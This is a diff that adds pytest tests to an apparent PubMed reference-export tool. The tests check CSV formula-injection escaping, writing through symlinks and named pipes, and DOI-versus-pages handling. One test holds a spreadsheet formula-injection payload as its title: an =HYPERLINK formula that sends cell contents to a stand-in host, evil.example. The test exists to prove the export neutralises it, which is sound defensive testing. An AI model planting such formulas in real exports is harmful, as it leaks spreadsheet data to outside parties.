@@ -348,3 +348,81 @@ def test_a_study_every_query_set_aside_is_left_out_as_in_the_digests(env):
     docs = _read_json(_export(env, "--format", "json"))
     assert list(docs) == [kept.ids["pmid"]]
     assert docs[kept.ids["pmid"]]["conditions"] == ["Everything in the corpus"]
+
+
+@pytest.mark.hostile
+def test_a_title_a_spreadsheet_would_run_as_a_formula_is_written_as_text(env):
+    """A title (or any text) starting with = + - @ opened in Excel or LibreOffice would be run
+    as a formula (=HYPERLINK leaks to a site when clicked): the CSV cell starts with a quote
+    so it shows as text; the other formats keep the title as it is."""
+    from dataclasses import replace
+
+    from tests.helpers.pubmed import studies_of
+    from tests.helpers.studies import store_study
+
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click for the full text")'
+    (study,) = studies_of((FIXTURES / "biopython/pubmed2.xml").read_bytes())[:1]
+    study = replace(study, title=hostile, abstract="-2+3 mg")
+    env.write_queries(QUERIES_YAML)
+    with env.store() as store:
+        study_id, _ = store_study(store, study, "2026-01-05T00:00:00+00:00")
+        store.add_match(study_id, "everything", "pubmed", run_id=0,
+                        now="2026-01-05T00:00:00+00:00", excluded=None, labels=[])
+    (row,) = csv.DictReader(io.StringIO(_export(env, "--format", "csv"), newline=""))
+    assert row["title"] == "'" + hostile
+    assert row["abstract"] == "'-2+3 mg"
+    assert row["pmid"] == study.ids["pmid"]  # a plain value is untouched
+    (doc,) = _read_json(_export(env, "--format", "json")).values()
+    assert doc["title"] == hostile
+
+
+@pytest.mark.hostile
+def test_output_through_a_link_or_into_a_pipe_is_written_not_replaced(filled, tmp_path):
+    """-o a symlink (a shared references folder) writes the file it points to, the link kept;
+    -o a named pipe (or /dev/stdout, /dev/null) writes into it, never replaces it with a file
+    (as root, -o /dev/null would otherwise replace the device itself)."""
+    import os
+    import threading
+
+    target = tmp_path / "library" / "alerts.ris"
+    target.parent.mkdir()
+    target.write_text("old", encoding="utf-8")
+    link = tmp_path / "alerts.ris"
+    link.symlink_to(target)
+    result = filled.cli("export", "--format", "ris", "-o", str(link))
+    assert result.exit_code == 0, result.stderr
+    assert link.is_symlink() and link.resolve() == target
+    assert len(rispy.loads(target.read_text(encoding="utf-8"))) == len(_stored(filled))
+
+    pipe = tmp_path / "pipe"
+    os.mkfifo(pipe)
+    got: list[bytes] = []
+    reader = threading.Thread(target=lambda: got.append(pipe.read_bytes()), daemon=True)
+    reader.start()
+    result = filled.cli("export", "--format", "json", "-o", str(pipe))
+    reader.join(timeout=20)
+    assert result.exit_code == 0, result.stderr
+    assert pipe.is_fifo() and len(got[0].decode().splitlines()) == len(_stored(filled))
+
+
+def test_an_online_only_paper_has_no_doi_for_pages(env):
+    """A real record with no pages but its DOI as ELocationID (online-only): the DOI is the
+    DOI, never its page range as well (Zotero and EndNote would show 'Pages: 10.1177/...')."""
+    import re as _re
+
+    from tests.helpers.pubmed import studies_of
+    from tests.helpers.studies import store_study
+
+    xml = (FIXTURES / "pubmed_metapub/28731372.xml").read_bytes()
+    (study,) = studies_of(_re.sub(rb"<Pagination>.*?</Pagination>", b"", xml, flags=_re.S))
+    env.write_queries(QUERIES_YAML)
+    with env.store() as store:
+        study_id, _ = store_study(store, study, "2026-01-05T00:00:00+00:00")
+        store.add_match(study_id, "everything", "pubmed", run_id=0,
+                        now="2026-01-05T00:00:00+00:00", excluded=None, labels=[])
+    (ref,) = rispy.loads(_export(env, "--format", "ris"))
+    assert ref["doi"] == "10.1177/1352458517722646" and "start_page" not in ref
+    (entry,) = _read_bibtex(_export(env, "--format", "bibtex")).values()
+    assert entry["doi"] == "10.1177/1352458517722646" and "pages" not in entry["fields"]
+    (row,) = csv.DictReader(io.StringIO(_export(env, "--format", "csv"), newline=""))
+    assert row["pages"] == "" and row["volume"] == ref["volume"]
